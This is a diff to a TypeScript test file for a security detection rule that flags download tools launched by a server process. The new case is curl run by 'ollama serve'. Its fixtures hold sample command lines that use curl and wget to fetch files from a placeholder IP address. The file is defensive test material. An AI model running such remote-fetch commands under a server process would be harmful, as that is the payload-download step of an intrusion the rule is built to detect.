@@ -60,6 +60,15 @@ export const DOWNLOAD_TOOL_CHILD: Detection = {
     recover: [LOOK_FOR_TRACES, ROTATE_SECRETS, REBUILD, UPGRADE],
   },
   fires: [
+    story("below the server, which the row names without a path", () => [
+      child(0, "/usr/bin/curl", "curl -s http://203.0.113.9/x", {
+        parentExecutable: "ollama",
+        parentCommandLine: "ollama serve",
+        user: null,
+        unit: null,
+        product: "ollama",
+      }),
+    ]),
     story("curl below the server", () => [child(0, "/usr/bin/curl", "curl -s http://203.0.113.9/x")]),
     story("wget below a shell of the unit", () => [
       run(0, "/usr/bin/wget", "wget 203.0.113.9/x", {
